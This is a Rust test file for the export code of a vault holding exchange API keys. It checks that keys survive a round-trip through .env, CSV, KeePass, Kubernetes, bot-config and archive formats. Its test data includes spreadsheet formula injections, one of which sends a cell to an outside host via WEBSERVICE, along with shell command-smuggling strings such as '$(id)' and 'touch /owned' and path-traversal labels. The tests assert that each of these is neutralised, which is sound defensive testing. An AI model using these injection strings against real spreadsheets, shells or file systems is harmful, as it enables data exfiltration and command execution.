//! What is exported: read back by our own importers and by others, hostile names and values
//! included.

use std::collections::BTreeSet;
use std::io::Write as _;
use std::process::{Command, Stdio};

use proptest::prelude::*;
use strongroom_crypto::OsRandom;
use strongroom_domain::{
    AccountLabel, Allowlist, ConsumerName, Days, EntryId, Environment, ExchangeId, ExpiryCause,
    FieldName, IpRule, KeyLabel, KeyState, KeyType, Line, MaterialField, NamedHost, Notes,
    PermissionSet, RotationPolicy, Tag, Tri, UtcMs, Verb, VersionState,
};
use strongroom_formats::export::{
    ArchiveProblem, Details, ExportEntry, ExportError, ExportFormat, ExportVersion, LeftOut, Lock,
    Origin, Written, compose_secrets, credential_unit, folder_files, read_archive, write,
    write_archive,
};
use strongroom_formats::{
    Draft, ImportPlan, Options, Source, Unlocking, What, detect, parse, unlock,
};
use strongroom_secret::SecretText;

const KEY: &str = "vmPUZE6mv9SD5VNHk4HlWFsOr6aKE2zvsw0MuIgwCIPy6utIco14y7Ju91duEh8A";
const SECRET: &str = "NhqPtmdSJYdKjVHjA7PZj4Mge3R5YNiP1e3UZjInClVN65XAbvqqM6A7H5fATj0j";

fn field(name: &str, value: &str) -> MaterialField {
    MaterialField {
        name: FieldName::parse(name).expect("a name"),
        value: SecretText::new(value.to_owned()),
    }
}

fn entry(number: u8, label: &str, exchange: &str, account: &str) -> ExportEntry {
    ExportEntry {
        id: EntryId::from_bytes([number; 16]),
        label: KeyLabel::parse(label).expect("a label"),
        exchange: ExchangeId::parse(exchange).expect("an id"),
        account: AccountLabel::parse(account).ok(),
        environment: Environment::Production,
        state: KeyState::Active,
        compromised: None,
        fields: vec![field("apiKey", KEY), field("secret", SECRET)],
        other_versions: Vec::new(),
        details: Details {
            key_type: KeyType::Hmac,
            purpose: None,
            owner: None,
            declared: PermissionSet::unknown(),
            allowlist: Allowlist::Unknown,
            expiry: Vec::new(),
            rotation: RotationPolicy::Default,
            created: None,
            consumers: Vec::new(),
            tags: BTreeSet::new(),
            notes: None,
        },
        expires: None,
        url: None,
    }
}

/// Everything that can be recorded.
fn full() -> ExportEntry {
    let line = |text: &str| Line::parse(text).expect("a line");
    let days = |days| Days::parse(days).expect("days");
    let at = |ms| UtcMs::parse(ms).expect("a moment");
    let rule = |text: &str| IpRule::parse(text).expect("a rule");
    let mut full = entry(9, "Größte \"Kasse\"", "okx", "Desk 2");
    full.environment = Environment::Testnet;
    full.state = KeyState::Revoked;
    full.compromised = Some(at(1_750_000_000_000));
    full.fields.push(field("passphrase", "it's $5 \\ \"half\""));
    full.fields.push(field("subaccountId", "7"));
    full.other_versions = vec![ExportVersion {
        state: VersionState::Draining,
        made: at(1_700_000_000_001),
        fields: vec![field("secret", "older")],
    }];
    full.details = Details {
        key_type: KeyType::Passphrase,
        purpose: Some(line("grid bot")),
        owner: Some(line("Ada")),
        declared: PermissionSet::new([Tri::No; 8])
            .with(Verb::Read, Tri::Yes)
            .with(Verb::Withdraw, Tri::Unknown)
            .with_native([line("trade")]),
        allowlist: Allowlist::listed([
            rule("203.0.113.7").named(NamedHost::parse("VPS-1").ok()),
            rule("2001:db8::/32"),
        ])
        .expect("a list"),
        expiry: vec![
            ExpiryCause::Fixed {
                at: at(1_900_000_000_000),
            },
            ExpiryCause::DaysSinceCreation { days: days(90) },
            ExpiryCause::Inactivity { days: days(14) },
            ExpiryCause::NoAllowlist { days: days(30) },
            ExpiryCause::PasswordChange {
                at: at(1_800_000_000_000),
            },
            ExpiryCause::SessionLife { days: days(7) },
        ],
        rotation: RotationPolicy::Every(days(45)),
        created: Some(at(1_600_000_000_000)),
        consumers: vec![ConsumerName::parse("freqtrade").expect("a name")],
        tags: [Tag::parse("grid").expect("a tag")].into(),
        notes: Some(Notes::parse("first\n\tsecond").expect("notes")),
    };
    full.expires = Some(at(1_800_000_000_000));
    full.url = Some("https://www.okx.com/account/my-api".to_owned());
    full
}

fn origin() -> Origin {
    Origin {
        program: "0.1.0".to_owned(),
        at: UtcMs::parse(1_790_000_000_000).expect("a moment"),
    }
}

fn written(format: ExportFormat, entries: &[ExportEntry]) -> Written {
    write(format, &origin(), entries, None).expect("it holds so many")
}

fn text(written: &Written) -> &str {
    // EXPOSE: tests look at what was written.
    std::str::from_utf8(written.bytes.expose()).expect("text")
}

fn imported(format: ExportFormat, entries: &[ExportEntry]) -> ImportPlan {
    let written = written(format, entries);
    assert_eq!(written.left_out, [], "{format}");
    // EXPOSE: the same.
    let bytes = written.bytes.expose();
    let name = match format {
        ExportFormat::Env => ".env",
        ExportFormat::Csv => "keys.csv",
        ExportFormat::Ccxt => "keys.local.json",
        _ => "config-private.json",
    };
    let source = detect(bytes, Some(name)).expect("it is recognised");
    parse(source, bytes, &Options::default()).expect("it is read")
}

/// Name and value of every field, in one order.
fn values<'a>(fields: impl IntoIterator<Item = (String, &'a str)>) -> Vec<(String, String)> {
    let pair = |(name, value): (String, &str)| (name, value.to_owned());
    let mut values: Vec<(String, String)> = fields.into_iter().map(pair).collect();
    values.sort();
    values
}

fn of_entry(entry: &ExportEntry) -> Vec<(String, String)> {
    // EXPOSE: compared.
    values(
        entry
            .fields
            .iter()
            .map(|field| (field.name.to_string(), field.value.expose())),
    )
}

fn of_draft(draft: &Draft) -> Vec<(String, String)> {
    let own = draft.record.iter().flat_map(|record| &record.other_fields);
    // EXPOSE: compared.
    let own = own.map(|field| (field.name.to_string(), field.value.expose()));
    let fields = draft.fields.iter();
    values(
        fields
            .map(|field| (field.name.to_string(), field.value.expose()))
            .chain(own),
    )
}

#[test]
fn each_format_is_written_like_this() {
    let mut second = entry(2, "kraken futures desk", "kraken", "futures");
    second.fields = vec![field("apiKey", KEY), field("privateKey", "0012345678")];
    second.environment = Environment::Testnet;
    let both = [entry(1, "binance-main", "binance", "main"), second];
    // One that is encrypted is no text, and never the same twice.
    let readable = ExportFormat::ALL
        .into_iter()
        .filter(|format| !format.is_encrypted());
    for format in readable {
        let entries = if format == ExportFormat::Freqtrade {
            &both[1..]
        } else {
            &both[..]
        };
        insta::assert_snapshot!(format!("export_{format}"), text(&written(format, entries)));
    }
    let (files, left_out) = folder_files(&both);
    assert_eq!(left_out, []);
    let unit = credential_unit(&files, "/etc/keys/100%", "LoadCredential");
    insta::assert_snapshot!("export_unit", unit);
    insta::assert_snapshot!("export_compose", compose_secrets(&files));
    insta::assert_snapshot!("export_full", text(&written(ExportFormat::Json, &[full()])));
}

#[test]
fn a_database_of_keepass_gives_back_what_it_holds() {
    let password = SecretText::new("seventeen brass hinges, oiled".to_owned());
    let lock = Lock {
        password: &password,
        random: &OsRandom,
    };
    let mut cut_in_two = entry(1, "cut in two", "binance", "main");
    cut_in_two.details.tags = [Tag::parse("a;b").expect("a tag")].into();
    let mut empty = entry(2, "empty", "binance", "main");
    empty.fields.clear();
    let entries = [cut_in_two, empty, full()];
    let written = write(ExportFormat::Kdbx, &origin(), &entries, Some(lock)).expect("written");
    assert_eq!(
        written.left_out,
        [(0, LeftOut::Semicolon), (1, LeftOut::NoSecret)]
    );
    // EXPOSE: it is encrypted.
    let file = written.bytes.expose();
    assert_eq!(detect(file, None), Some(Source::Keepass));
    let with = Unlocking {
        password: Some(&password),
        key_file: None,
    };
    let opened = unlock(Source::Keepass, file, with).expect("it opens");
    // EXPOSE: read back.
    let opened = opened.expect("it was locked");
    let plan = parse(Source::Keepass, opened.expose(), &Options::default()).expect("a plan");
    let [draft] = plan.drafts.as_slice() else {
        panic!("{} drafts", plan.drafts.len());
    };
    let meant = full();
    assert_eq!(draft.label, meant.label.as_str());
    assert_eq!(draft.exchange.id, meant.exchange);
    assert_eq!(draft.account.as_deref(), Some("Desk 2"));
    assert_eq!(draft.environment, Some(meant.environment));
    assert_eq!(draft.expires, meant.expires);
    assert_eq!(draft.notes, meant.details.notes);
    assert!(draft.tags.iter().eq(&meant.details.tags));
    for name in ["apiKey", "secret", "passphrase"] {
        let read = draft.fields.iter().find(|one| one.name.as_str() == name);
        let was = meant.fields.iter().find(|one| one.name.as_str() == name);
        let (read, was) = (read.expect("read"), was.expect("written"));
        assert!(read.value.ct_eq(&was.value), "{name}");
    }
}

#[test]
fn only_a_file_that_is_encrypted_takes_a_password_and_none_that_is_weak() {
    let entries = [entry(1, "a", "binance", "main")];
    let with = |format, password: &str| {
        let password = SecretText::new(password.to_owned());
        let lock = Lock {
            password: &password,
            random: &OsRandom,
        };
        write(format, &origin(), &entries, Some(lock)).map(|_| ())
    };
    for weak in ["", "hQ7!k2", "passwordpassword"] {
        let refused = with(ExportFormat::Kdbx, weak);
        assert!(matches!(refused, Err(ExportError::Password(_))), "{weak}");
    }
    let strong = "seventeen brass hinges, oiled";
    assert_eq!(
        with(ExportFormat::Csv, strong),
        Err(ExportError::NotEncrypted)
    );
    let without = write(ExportFormat::Kdbx, &origin(), &entries, None).map(|_| ());
    assert_eq!(without, Err(ExportError::NoPassword));
}

#[test]
fn an_archive_gives_back_everything() {
    let bytes = write_archive(&origin(), &[entry(1, "a", "binance", "main"), full()]);
    // EXPOSE: read back.
    let archive = read_archive(bytes.expose()).expect("it is one");
    assert_eq!(archive.origin, origin());
    let (read, meant) = (&archive.entries[1], full());
    assert_eq!(of_entry(read), of_entry(&meant));
    assert_eq!(read.details, meant.details);
    assert_eq!(
        (
            read.id,
            &read.label,
            &read.account,
            read.environment,
            read.state
        ),
        (
            meant.id,
            &meant.label,
            &meant.account,
            meant.environment,
            meant.state
        )
    );
    assert_eq!(
        (read.compromised, read.expires, &read.url),
        (meant.compromised, meant.expires, &meant.url)
    );
    assert_eq!(read.other_versions.len(), 1);
    let again = write_archive(&archive.origin, &archive.entries);
    assert!(again.ct_eq(&bytes), "what was read is written the same");

    let plan = parse(Source::Strongroom, bytes.expose(), &Options::default()).expect("imported");
    let draft = &plan.drafts[1];
    let record = draft.record.as_ref().expect("the record");
    assert_eq!(of_draft(draft), of_entry(&meant));
    assert_eq!(record.details, meant.details);
    assert_eq!(
        (record.state, record.compromised),
        (meant.state, meant.compromised)
    );
    assert_eq!(draft.label, meant.label.as_str());
    let lost = plan
        .fields
        .iter()
        .filter(|field| matches!(field.what, What::NotImported { .. }));
    let lost: Vec<&str> = lost.map(|field| field.where_.name.as_str()).collect();
    assert_eq!(lost, ["keys.1.other_versions.0"]);
}

#[test]
fn what_is_no_archive_of_this_form_is_refused_with_its_line() {
    let bytes = write_archive(&origin(), &[full()]);
    // EXPOSE: changed and read again.
    let whole = String::from_utf8(bytes.expose().to_vec()).expect("text");
    let end = whole.trim_end().len();
    for cut in 0..end {
        if whole.is_char_boundary(cut) {
            assert!(
                read_archive(&whole.as_bytes()[..cut]).is_err(),
                "cut at {cut}"
            );
        }
    }
    for (old, new, problem) in [
        (
            "strongroom-export-1",
            "strongroom-export-2",
            ArchiveProblem::Later,
        ),
        ("\"format\"", "\"form\"", ArchiveProblem::NotAnArchive),
        ("\"label\"", "\"name\"", ArchiveProblem::Damaged { line: 8 }),
        (
            "\"read\": \"yes\"",
            "\"read\": \"maybe\"",
            ArchiveProblem::Key {
                line: 6,
                what: "a permission",
            },
        ),
        (
            "\"state\": \"revoked\"",
            "\"state\": \"gone\"",
            ArchiveProblem::Key {
                line: 6,
                what: "the state",
            },
        ),
        (
            "Desk 2",
            "Desk\\u202e2",
            ArchiveProblem::Key {
                line: 6,
                what: "the account",
            },
        ),
        (
            "Desk 2",
            "Desk\\n2",
            ArchiveProblem::Key {
                line: 6,
                what: "the account",
            },
        ),
        (
            "\"secret\": \"N",
            "\"apiKey\": \"N",
            ArchiveProblem::Damaged { line: 17 },
        ),
        (
            "\"secret\": \"N",
            "\"API_SECRET\": \"N",
            ArchiveProblem::Key {
                line: 6,
                what: "the name of a field",
            },
        ),
        (
            "203.0.113.7",
            "203.0.113.700",
            ArchiveProblem::Key {
                line: 6,
                what: "an address of the allowlist",
            },
        ),
        (
            "\"rotation_days\": 45",
            "\"rotation_days\": 0",
            ArchiveProblem::Key {
                line: 6,
                what: "the rotation policy",
            },
        ),
    ] {
        let changed = whole.replacen(old, new, 1);
        assert_ne!(changed, whole, "{old} does not stand there");
        let refused = read_archive(changed.as_bytes()).expect_err("refused");
        if let (ArchiveProblem::Damaged { .. }, ArchiveProblem::Damaged { .. }) = (refused, problem)
        {
            continue;
        }
        assert_eq!(refused, problem, "{new}");
    }
    for (other, problem) in [
        ("", ArchiveProblem::NotAnArchive),
        (
            "{\"binance\": {\"apiKey\": \"strongroom-export-1\"}}",
            ArchiveProblem::NotAnArchive,
        ),
        ("[\"strongroom-export-1\"]", ArchiveProblem::NotAnArchive),
    ] {
        let refused = read_archive(other.as_bytes()).expect_err("refused");
        assert_eq!(refused, problem, "{other}");
    }
    let deep = format!(
        "{{\"format\": \"strongroom-export-1\", \"keys\": {}",
        "[".repeat(100_000)
    );
    assert!(read_archive(deep.as_bytes()).is_err());
    assert!(read_archive(whole.replace("okx", "o\u{0}").as_bytes()).is_err());
}

#[test]
fn ten_thousand_keys_are_one_archive() {
    let entries: Vec<ExportEntry> = (0..10_000)
        .map(|number| {
            entry(
                u8::try_from(number % 251).unwrap_or(0),
                &format!("key {number}"),
                "binance",
                "main",
            )
        })
        .collect();
    let bytes = write_archive(&origin(), &entries);
    // EXPOSE: read back.
    let archive = read_archive(bytes.expose()).expect("it is one");
    assert_eq!(archive.entries.len(), 10_000);
    assert!(archive.lines.is_sorted());
    for format in [
        ExportFormat::Env,
        ExportFormat::Csv,
        ExportFormat::Ccxt,
        ExportFormat::Kubernetes,
    ] {
        assert_eq!(written(format, &entries).left_out, [], "{format}");
    }
}

#[test]
fn what_a_format_cannot_hold_is_left_out_and_said() {
    let of = |name: &str, value: &str| {
        let mut one = entry(1, "a", "binance", "main");
        one.fields.push(field(name, value));
        one
    };
    let own = |name: &str| FieldName::parse(name).expect("a name");
    let mut none = entry(1, "a", "binance", "main");
    none.fields.clear();
    let mut demo = entry(1, "a", "binance", "main");
    demo.environment = Environment::Demo;
    for (format, entry, why) in [
        (
            ExportFormat::Env,
            of("passphrase", "ends in \\"),
            LeftOut::ReadDifferently(own("passphrase")),
        ),
        (
            ExportFormat::Env,
            of("passphrase", "zero\0byte"),
            LeftOut::ReadDifferently(own("passphrase")),
        ),
        (
            ExportFormat::Env,
            of("Api.Key", "x"),
            LeftOut::NoPlace(own("Api.Key")),
        ),
        (
            ExportFormat::Csv,
            of("passphrase", "=WEBSERVICE(\"http://x/\"&B2)"),
            LeftOut::Formula(own("passphrase")),
        ),
        (
            ExportFormat::Csv,
            of("passphrase", "+cmd|' /C calc'!A0"),
            LeftOut::Formula(own("passphrase")),
        ),
        (
            ExportFormat::Csv,
            of("passphrase", "zero\0byte"),
            LeftOut::ReadDifferently(own("passphrase")),
        ),
        (
            ExportFormat::Csv,
            of("title", "x"),
            LeftOut::NoPlace(own("title")),
        ),
        (
            ExportFormat::Freqtrade,
            of("token", "x"),
            LeftOut::NoPlace(own("token")),
        ),
        (
            ExportFormat::Freqtrade,
            of("sub", "x"),
            LeftOut::NoPlace(own("sub")),
        ),
        (
            ExportFormat::Passivbot,
            of("token", "x"),
            LeftOut::NoPlace(own("token")),
        ),
        (
            ExportFormat::Ccxt,
            of("sub", "x"),
            LeftOut::NoPlace(own("sub")),
        ),
        (
            ExportFormat::Passivbot,
            self::entry(1, "referrals", "bybit", "main"),
            LeftOut::KeptWord,
        ),
        (
            ExportFormat::Passivbot,
            self::entry(1, "_comment_1", "bybit", "main"),
            LeftOut::KeptWord,
        ),
    ] {
        assert_eq!(written(format, &[entry]).left_out, [(0, why)], "{format}");
    }
    for format in [ExportFormat::Freqtrade, ExportFormat::Passivbot] {
        let why = LeftOut::Environment(Environment::Demo);
        assert_eq!(
            written(format, std::slice::from_ref(&demo)).left_out,
            [(0, why)],
            "{format}"
        );
    }
    for format in [
        ExportFormat::Csv,
        ExportFormat::Env,
        ExportFormat::Ccxt,
        ExportFormat::Kubernetes,
    ] {
        let left_out = written(format, std::slice::from_ref(&none)).left_out;
        assert_eq!(left_out, [(0, LeftOut::NoSecret)], "{format}");
    }
    let two = [entry(1, "a", "okx", "main"), entry(2, "b", "okx", "main")];
    assert!(write(ExportFormat::Freqtrade, &origin(), &two, None).is_err());
    assert!(write(ExportFormat::Freqtrade, &origin(), &[], None).is_err());
}

#[test]
fn what_a_table_holds_is_no_formula_and_comes_back_exactly() {
    let mut keys = vec![
        entry(1, "=HYPERLINK(\"http://x\")", "binance", "@desk"),
        entry(2, "'quoted", "kraken", "-1"),
        entry(3, "comma, \"quote\"; tab", "okx", "main"),
    ];
    keys[1].fields = vec![
        field("apiKey", "+a/b=="),
        field(
            "privateKey",
            "-----BEGIN PRIVATE KEY-----\nMC4=\n-----END PRIVATE KEY-----",
        ),
    ];
    keys[2].fields.push(field("passphrase", "a \"b\", c;\td"));
    let table = written(ExportFormat::Csv, &keys);
    let mut reader = csv::Reader::from_reader(text(&table).as_bytes());
    for record in reader.records() {
        let record = record.expect("a row");
        assert!(!record[0].starts_with(['=', '+', '-', '@']), "{record:?}");
        assert!(!record[2].starts_with(['=', '+', '-', '@']), "{record:?}");
    }
    let plan = imported(ExportFormat::Csv, &keys);
    for (draft, entry) in plan.drafts.iter().zip(&keys) {
        assert_eq!(draft.label, entry.label.as_str());
        assert_eq!(
            draft.account.as_deref(),
            entry.account.as_ref().map(|account| account.as_str())
        );
        assert_eq!(of_draft(draft), of_entry(entry));
    }
}

/// What a shell has in a variable after it has read the file.
fn in_a_shell(file: &str, variable: &str) -> String {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join(".env"), file).expect("written");
    let script = format!("set -e; . ./.env; printf %s \"${{{variable}}}\"");
    let output = Command::new("sh")
        .args(["-c", &script])
        .current_dir(folder.path())
        .output();
    let output = output.expect("a shell");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).expect("text")
}

#[test]
fn a_shell_reads_an_env_file_as_it_was_meant() {
    for value in [
        "plain",
        "it's",
        "'",
        "''quoted''",
        "$HOME `id` $(id) ${PATH}",
        "a\\b \"c\" #d !e",
        "two\nlines",
        "0012345",
        "-----BEGIN EC PRIVATE KEY-----\nMHc=\n-----END EC PRIVATE KEY-----",
        "ключ 鍵",
    ] {
        let mut one = entry(1, "x\"; touch /owned; '$(id)", "okx", "it's; $(id)");
        one.fields = vec![field("apiKey", KEY), field("passphrase", value)];
        let file = written(ExportFormat::Env, &[one]);
        assert_eq!(file.left_out, [], "{value}");
        assert_eq!(in_a_shell(text(&file), "OKX_IT_S_ID_PASSPHRASE"), value);
    }
    let mut odd = entry(1, "a", "1inch", "main");
    odd.fields = vec![field("apiKey", KEY)];
    let file = written(ExportFormat::Env, &[odd]);
    assert_eq!(in_a_shell(text(&file), "_1INCH_MAIN_API_KEY"), KEY);
}

#[test]
fn names_that_would_be_taken_for_something_else_are_not_used() {
    let cases = [
        // (exchange, account, environment)
        ("kraken", "futures", Environment::Production),
        ("binance", "us", Environment::Production),
        ("binance", "paper", Environment::Production),
        ("binance", "live", Environment::Testnet),
        ("okx", "secret", Environment::Production),
        ("okx", "public", Environment::Demo),
        ("okx", "2", Environment::Production),
        ("gate", "Größe", Environment::Development),
        ("bybit", "鍵", Environment::Production),
    ];
    let keys: Vec<ExportEntry> = cases
        .iter()
        .enumerate()
        .map(|(number, (exchange, account, environment))| {
            let mut one = entry(
                u8::try_from(number).unwrap_or(0) + 1,
                account,
                exchange,
                account,
            );
            one.environment = *environment;
            one.fields = vec![
                field("apiKey", &format!("{KEY}{number}")),
                field("secret", SECRET),
            ];
            one
        })
        .collect();
    for format in [ExportFormat::Env, ExportFormat::Ccxt] {
        let plan = imported(format, &keys);
        assert_eq!(plan.drafts.len(), keys.len(), "{format}");
        for entry in &keys {
            let draft = plan
                .drafts
                .iter()
                .find(|draft| of_draft(draft) == of_entry(entry));
            let draft = draft.unwrap_or_else(|| panic!("{format}: {} is lost", entry.label));
            assert_eq!(
                draft.exchange.id, entry.exchange,
                "{format}: {}",
                entry.label
            );
            let environment = draft.environment.unwrap_or(Environment::Production);
            assert_eq!(environment, entry.environment, "{format}: {}", entry.label);
        }
    }
}

#[test]
fn files_of_hostile_labels_stay_in_their_folder() {
    let hostile = [
        "../../etc/passwd",
        "..",
        "/",
        "a/b",
        "-rf",
        "con\u{feff}",
        "%n",
        "Ключ",
        "x:y",
    ];
    let mut keys = Vec::new();
    for (number, label) in hostile.iter().enumerate() {
        keys.push(entry(
            u8::try_from(number).unwrap_or(0) + 1,
            label,
            "okx",
            label,
        ));
    }
    keys.push(entry(90, "same", "okx", "main"));
    keys.push(entry(91, "same", "okx", "main"));
    let (files, left_out) = folder_files(&keys);
    assert_eq!(left_out, []);
    let mut names: Vec<&str> = files.iter().map(|file| file.name.as_str()).collect();
    assert_eq!(names.len(), keys.len() * 2);
    let fits = |name: &&str| {
        name.bytes()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'_')
    };
    assert!(names.iter().all(fits), "{names:?}");
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), keys.len() * 2, "two keys share a file");
    let kubernetes = written(ExportFormat::Kubernetes, &keys);
    let of_objects = text(&kubernetes)
        .lines()
        .filter_map(|line| line.strip_prefix("  name: "));
    for name in of_objects {
        assert!(
            name.bytes()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'-'),
            "{name}"
        );
        assert!(!name.starts_with('-') && !name.ends_with('-'), "{name}");
    }
}

/// What Python makes of a file; `script` has it as `data`.
fn python(script: &str, input: &[u8]) -> String {
    let script = format!("import sys, json\nraw = sys.stdin.buffer.read()\n{script}");
    let mut child = Command::new("python3")
        .args(["-c", &script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3");
    child
        .stdin
        .take()
        .expect("a pipe")
        .write_all(input)
        .expect("read");
    let output = child.wait_with_output().expect("it ends");
    assert!(output.status.success());
    String::from_utf8(output.stdout)
        .expect("text")
        .trim()
        .to_owned()
}

#[test]
fn python_reads_what_bots_are_given() {
    let mut okx = entry(1, "it's \"x\"", "okx", "main");
    okx.fields.push(field("passphrase", "0012345"));
    okx.environment = Environment::Testnet;
    // EXPOSE: handed to another reader.
    let freqtrade = written(ExportFormat::Freqtrade, std::slice::from_ref(&okx));
    let script = "e = json.loads(raw)['exchange']\nprint(e['name'], e['password'], e['key'], e['ccxt_config']['sandbox'])";
    assert_eq!(
        python(script, freqtrade.bytes.expose()),
        format!("okx 0012345 {KEY} True")
    );
    let archive = written(ExportFormat::Json, std::slice::from_ref(&okx));
    let script = "d = json.loads(raw)\nprint(d['format'], d['keys'][0]['label'], d['keys'][0]['fields']['passphrase'])";
    assert_eq!(
        python(script, archive.bytes.expose()),
        "strongroom-export-1 it's \"x\" 0012345"
    );
}

/// Any text that a vault records as a value: trimmed, not empty.
fn value() -> impl Strategy<Value = String> {
    prop_oneof![
        "[!-~]{1,60}",
        "[A-Za-z0-9+/=]{20,90}",
        "\\PC{1,30}",
        Just("-----BEGIN PRIVATE KEY-----\nMC4=\n-----END PRIVATE KEY-----".to_owned()),
    ]
    .prop_map(|text| text.trim().to_owned())
    .prop_filter("a value is not empty", |text| !text.is_empty())
}

fn any_entry() -> impl Strategy<Value = ExportEntry> {
    let exchange = prop_oneof![
        Just("binance"),
        Just("kraken"),
        Just("okx"),
        Just("gate"),
        Just("binanceus")
    ];
    let label = "[ -~é鍵]{1,40}".prop_filter("a label", |text| KeyLabel::parse(text).is_ok());
    let account = prop_oneof![Just("main".to_owned()), "[a-z0-9 -]{1,12}"]
        .prop_filter("an account", |text| AccountLabel::parse(text).is_ok());
    let environment = prop_oneof![
        Just(Environment::Production),
        Just(Environment::Testnet),
        Just(Environment::Demo),
        Just(Environment::Development)
    ];
    (
        any::<[u8; 16]>(),
        label,
        exchange,
        account,
        environment,
        value(),
        prop::option::of(value()),
    )
        .prop_map(
            |(id, label, exchange, account, environment, secret, passphrase)| {
                let mut made = entry(1, &label, exchange, &account);
                made.id = EntryId::from_bytes(id);
                made.environment = environment;
                // A key of its own, so that each is told from the others.
                let key = made.id.to_string();
                made.fields = vec![
                    field("apiKey", &format!("K{key}")),
                    field("secret", &secret),
                ];
                made.fields
                    .extend(passphrase.map(|value| field("passphrase", &value)));
                made
            },
        )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn any_archive_is_read_back_the_same(entries in prop::collection::vec(any_entry(), 0..6)) {
        let bytes = write_archive(&origin(), &entries);
        // EXPOSE: read back.
        let archive = read_archive(bytes.expose()).expect("it is one");
        prop_assert_eq!(archive.entries.len(), entries.len());
        for (read, meant) in archive.entries.iter().zip(&entries) {
            prop_assert_eq!(of_entry(read), of_entry(meant));
        }
        prop_assert!(write_archive(&archive.origin, &archive.entries).ct_eq(&bytes));
    }

    /// Whatever is not left out is taken by the importer as the same key of the same exchange and
    /// environment.
    #[test]
    fn what_is_written_for_programs_is_imported_again(entries in prop::collection::vec(any_entry(), 1..6)) {
        for format in [ExportFormat::Env, ExportFormat::Csv, ExportFormat::Ccxt] {
            let written = written(format, &entries);
            let source = match format {
                ExportFormat::Env => Source::Env,
                ExportFormat::Csv => Source::Csv,
                _ => Source::Ccxt,
            };
            // EXPOSE: read back.
            let plan = parse(source, written.bytes.expose(), &Options::default());
            let kept = (0..entries.len()).filter(|index| written.left_out.iter().all(|(out, _)| out != index));
            let kept: Vec<&ExportEntry> = kept.map(|index| &entries[index]).collect();
            if kept.is_empty() {
                continue;
            }
            let plan = plan.expect("it is read");
            for entry in kept {
                let key = format!("K{}", entry.id);
                let is_it = |draft: &&Draft| of_draft(draft).iter().any(|(_, value)| *value == key);
                let draft = plan.drafts.iter().find(is_it);
                prop_assert!(draft.is_some(), "{}: {} is lost\n{}", format, entry.label, text(&written));
                let draft = draft.expect("there");
                prop_assert_eq!(&draft.exchange.id, &entry.exchange);
                prop_assert_eq!(draft.environment.unwrap_or(Environment::Production), entry.environment);
                // What looks like an example's placeholder, or has control characters, is the
                // importer's own decision.
                for (name, value) in of_draft(draft) {
                    prop_assert!(of_entry(entry).contains(&(name, value)));
                }
            }
        }
    }

    #[test]
    fn no_bytes_are_read_as_an_archive_by_chance(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        prop_assert!(read_archive(&bytes).is_err());
    }
}
